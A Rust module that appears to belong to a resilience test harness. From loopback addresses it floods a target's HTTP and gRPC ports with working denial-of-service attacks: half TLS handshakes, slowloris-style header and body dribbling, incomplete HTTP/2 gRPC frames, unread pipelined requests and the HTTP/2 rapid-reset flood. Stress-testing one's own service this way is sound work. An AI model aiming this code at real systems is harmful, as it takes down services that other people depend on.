//! The second process: those who mean no good.

use std::{fs, net::SocketAddr, time::Duration};

use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    time::sleep,
};
use tokio_rustls::{TlsConnector, client::TlsStream};

use crate::{Outcome, administrator::connector};

/// Addresses they come from.
const ADDRESSES: usize = 40;
/// Between two bytes of those who are slow, and before one that was cut comes again.
const PAUSE: Duration = Duration::from_secs(1);

#[derive(Clone)]
struct Target {
    http: SocketAddr,
    grpc: SocketAddr,
    http1: TlsConnector,
    http2: TlsConnector,
}

pub async fn run(role: &str, count: usize) -> Outcome<()> {
    // Their work is done by other machines in the field, and must not be taken from the controller here.
    rustix::process::nice(15)?;
    let mut words = role.split(' ');
    let mut word = || words.next().ok_or("the role has too few words");
    let (http, grpc, ca) = (word()?.parse()?, word()?.parse()?, fs::read(word()?)?);
    let (http1, http2) = (connector(&ca, b"http/1.1")?, connector(&ca, b"h2")?);
    let target = Target { http, grpc, http1, http2 };
    for n in 0..count {
        let target = target.clone();
        tokio::spawn(async move {
            loop {
                // However it ends: it comes again.
                let _ = target.attack(n).await;
                sleep(PAUSE).await;
            }
        });
        if n % 100 == 0 {
            sleep(Duration::from_millis(50)).await;
        }
    }
    std::future::pending().await
}

impl Target {
    async fn attack(&self, n: usize) -> Outcome<()> {
        match n % 6 {
            0 => self.half_handshake(n).await,
            1 => self.dribble(n, b"GET /tags HTTP/1.1\r\nHost: x\r\nX-A: ").await,
            2 => {
                self.dribble(n, b"POST /session HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n{").await
            }
            3 => self.half_frames(n).await,
            4 => self.never_read(n).await,
            _ => self.rapid_reset(n).await,
        }
    }

    async fn connect(&self, n: usize, to: SocketAddr) -> Outcome<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        let last = u8::try_from(2 + n % ADDRESSES)?;
        socket.bind(SocketAddr::from(([127, 0, 0, last], 0)))?;
        Ok(socket.connect(to).await?)
    }

    async fn tls(&self, n: usize, two: bool) -> Outcome<TlsStream<TcpStream>> {
        let (to, connector) = if two { (self.grpc, &self.http2) } else { (self.http, &self.http1) };
        let stream = self.connect(n, to).await?;
        Ok(connector.connect(ServerName::try_from("localhost")?, stream).await?)
    }

    async fn half_handshake(&self, n: usize) -> Outcome<()> {
        let mut stream = self.connect(n, [self.http, self.grpc][n / 6 % 2]).await?;
        stream.write_all(&[22, 3, 1, 2, 0, 1, 0, 1]).await?;
        until_cut(&mut stream).await
    }

    async fn dribble(&self, n: usize, start: &[u8]) -> Outcome<()> {
        let mut stream = self.tls(n, false).await?;
        stream.write_all(start).await?;
        loop {
            sleep(PAUSE).await;
            stream.write_all(b"x").await?;
        }
    }

    /// Calls whose message has a beginning only.
    async fn half_frames(&self, n: usize) -> Outcome<()> {
        let mut stream = self.tls(n, true).await?;
        let mut out = begin();
        for call in 0..50 {
            put_call(&mut out, 2 * call + 1);
            put_frame(&mut out, 0, 0, 2 * call + 1, &[0, 0, 0, 1, 0, 7]);
        }
        stream.write_all(&out).await?;
        until_cut(&mut stream).await
    }

    async fn never_read(&self, n: usize) -> Outcome<()> {
        let mut stream = self.tls(n, false).await?;
        loop {
            stream.write_all(b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n").await?;
            sleep(PAUSE / 10).await;
        }
    }

    async fn rapid_reset(&self, n: usize) -> Outcome<()> {
        let mut stream = self.tls(n, true).await?;
        stream.write_all(&begin()).await?;
        let mut call = 1;
        loop {
            let mut out = Vec::new();
            for _ in 0..50 {
                put_call(&mut out, call);
                put_frame(&mut out, 3, 0, call, &8_u32.to_be_bytes());
                call += 2;
            }
            stream.write_all(&out).await?;
            sleep(PAUSE / 5).await;
        }
    }
}

async fn until_cut(stream: &mut (impl AsyncRead + Unpin)) -> Outcome<()> {
    let mut bytes = [0; 512];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// HTTP/2's first words.
fn begin() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    put_frame(&mut out, 4, 0, 0, &[]);
    out
}

/// The headers of a call that anyone may make.
fn put_call(out: &mut Vec<u8>, stream: u32) {
    let mut headers = vec![0x83, 0x87];
    for (name, value) in [
        (":path", "/provider.OCSProvider/OnBoardConsumer"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        headers.push(0);
        for text in [name, value] {
            headers.push(u8::try_from(text.len()).unwrap_or_default());
            headers.extend_from_slice(text.as_bytes());
        }
    }
    put_frame(out, 1, 4, stream, &headers);
}

fn put_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&u32::try_from(payload.len()).unwrap_or_default().to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
